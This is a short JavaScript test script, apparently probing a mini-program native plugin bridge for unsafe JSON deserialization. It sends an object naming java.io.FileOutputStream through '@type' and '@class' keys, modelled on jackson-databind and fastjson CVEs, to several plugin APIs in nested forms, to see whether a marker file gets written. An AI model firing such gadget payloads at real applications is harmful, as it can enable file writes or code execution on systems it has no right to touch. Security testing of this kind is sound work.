// Sends parameters that name Java types, which some JSON readers create
// Source: CVE-2017-7525 and its followers (jackson-databind), CVE-2017-18349 (fastjson)
const gadget = { '@type': 'java.io.FileOutputStream', '@class': 'java.io.FileOutputStream', val: 'footbridge-hostile-proof', file: 'footbridge-hostile-proof', append: true };
for (const api_name of ['echo', 'typed', 'untyped', 'value', 'okWithData', 'failWithData']) {
  wx.invokeNativePlugin({ api_name, data: gadget });
  wx.invokeNativePlugin({ api_name, data: { order: gadget, list: [gadget, ['java.io.FileOutputStream', gadget]] } });
}
